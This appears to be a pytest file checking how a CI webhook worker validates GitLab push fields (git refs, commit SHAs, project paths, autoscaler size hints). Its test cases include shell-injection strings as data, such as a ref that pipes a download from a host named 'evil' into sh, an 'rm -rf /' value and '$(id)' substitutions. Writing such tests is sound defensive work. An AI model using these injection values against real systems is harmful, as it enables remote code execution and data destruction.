"""The rules a push's fields must pass (workers.core.validation), the size hints passed on as
parsed quantities only (workers.core.hints), and a push that breaks a rule ignored with the
reason (workers.core.routing). The ref rule is held to git's own `git check-ref-format`."""

import json
import subprocess

import pytest
from hypothesis import given, settings, strategies as st

from tests.support.payloads import fixture
from workers.core.hints import hint_parameters
from workers.core.routing import Ignored, Push, parse_gitlab_push, parse_gitlab_push_body
from workers.core.validation import project_problem, ref_problem, sha_problem

SHA = "a4bf10d93a2d136f1db911b6f1c03d26d835a44f"


@pytest.mark.parametrize("ref", [
    "refs/heads/main", "refs/tags/v1.4.0", "refs/heads/feature/login",
    "refs/heads/x$(curl${IFS}evil|sh);`id`",  # git allows these: the shell must not see them
    "refs/heads/ünïcode", "refs/heads/" + "a" * 244,
])
def test_refs_git_takes_pass(ref):
    assert ref_problem(ref) is None


@pytest.mark.parametrize("ref,says", [
    ("refs/heads/x\n$(id)", "'\\n'"), ("refs/heads/a b", "' '"), ("refs/heads/a..b", ".."),
    ("refs/heads/a~1", "'~'"), ("refs/heads/a^", "'^'"), ("refs/heads/a:b", "':'"),
    ("refs/heads/a?", "'?'"), ("refs/heads/a*", "'*'"), ("refs/heads/a[", "'['"),
    ("refs/heads/a\\b", "'\\\\'"), ("refs/heads/a@{1}", "@{"), ("refs/heads//a", "//"),
    ("refs/heads/a/", "ends with"), ("refs/heads/a.", "ends with"),
    ("refs/heads/.hidden", "starts with '.'"), ("refs/heads/a.lock", ".lock"),
    ("main", "full ref"), ("refs/heads/" + "a" * 245, "longer than 255 bytes"),
    ("refs/heads/" + "é" * 123, "longer than 255 bytes"),  # 257 bytes, 134 characters
    ("refs/heads/a\x7f", "'\\x7f'"),
])
def test_refs_git_refuses_fail_with_a_reason(ref, says):
    problem = ref_problem(ref)
    assert problem is not None and says in problem


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet="ab./-@{}~^:?*[\\ \t\n$()`;|é", min_size=1, max_size=12))
def test_the_ref_rule_agrees_with_git_check_ref_format(suffix):
    ref = "refs/heads/" + suffix
    git = subprocess.run(["git", "check-ref-format", ref], capture_output=True).returncode == 0
    assert (ref_problem(ref) is None) == git, ref


@pytest.mark.parametrize("sha,ok", [
    (SHA, True), ("b" * 64, True), (SHA.upper(), False), (SHA[:39], False), ("g" * 40, False),
    ("'; rm -rf / #", False), (SHA + "\n", False), ("a" * 65, False),
    # between the two lengths: neither git's SHA-1 nor its SHA-256 object name
    ("c" * 41, False), ("c" * 50, False), ("c" * 63, False),
])
def test_a_sha_is_40_or_64_lower_case_hex_digits(sha, ok):
    assert (sha_problem(sha) is None) == ok


@pytest.mark.parametrize("path,ok", [
    ("group/project", True), ("a/b/c.d_e-f", True), ("project", False), ("group//p", False),
    ("group/../p", False), ("group/-p", False), ("group/p q", False), ("g/p\n", False),
    ("g/" + "p" * 253, True), ("g/" + "p" * 254, False), ("g/$(id)", False),
])
def test_project_paths_are_gitlab_paths_of_at_most_255_bytes(path, ok):
    assert (project_problem(path) is None) == ok


@pytest.mark.parametrize("variables,expected", [
    ({"CI_AUTOSCALER_CPU": "4"}, {"CI_AUTOSCALER_CPU": "4"}),
    ({"CI_AUTOSCALER_CPU": "1500m", "CI_AUTOSCALER_MEMORY": "8192Mi"},
     {"CI_AUTOSCALER_CPU": "1500m", "CI_AUTOSCALER_MEMORY": "8Gi"}),
    ({"CI_AUTOSCALER_CPU": "$(id) 1000"}, {}),  # issue 17: it reached Jenkins as written
    ({"CI_AUTOSCALER_CPU": "1000;id"}, {}),
    ({"CI_AUTOSCALER_CPU": "1e999999"}, {}),  # no million-digit integer is made of it
    ({"CI_AUTOSCALER_MEMORY": "0"}, {}), ({"CI_AUTOSCALER_MEMORY": "1" * 40}, {}),
    ({"OTHER": "x"}, {}),
])
def test_a_size_hint_passes_on_only_as_its_parsed_quantity(variables, expected):
    assert hint_parameters(variables) == expected


def _push(**fields) -> bytes:
    return json.dumps(fixture("gitlab_push_real_lrz.json") | fields).encode()


@pytest.mark.parametrize("fields,says", [
    ({"ref": "refs/heads/x\n$(curl${IFS}evil|sh);`id`"}, "'\\n'"),
    ({"ref": "refs/heads/" + "x" * (20 * 2**20)}, "ref is longer than 255 bytes"),
    ({"after": "'; rm -rf / #", "checkout_sha": "'; rm -rf / #"}, "is not 40 or 64"),
    ({"checkout_sha": "x" * 100}, "sha is longer than 64 characters"),
    ({"user_username": "u" * 300}, "user name is longer than 255 bytes"),
    ({"user_username": "evil\nuser"}, "control character"),
])
def test_a_push_that_breaks_a_rule_is_ignored_with_the_reason(fields, says):
    result = parse_gitlab_push_body("Push Hook", _push(**fields))
    assert isinstance(result, Ignored) and result.refused and says in result.reason


def test_a_real_push_read_for_its_fields_only_is_the_push_read_whole():
    body = _push()
    assert parse_gitlab_push_body("Push Hook", body) == parse_gitlab_push(
        "Push Hook", json.loads(body))
    assert isinstance(parse_gitlab_push_body("Push Hook", body), Push)
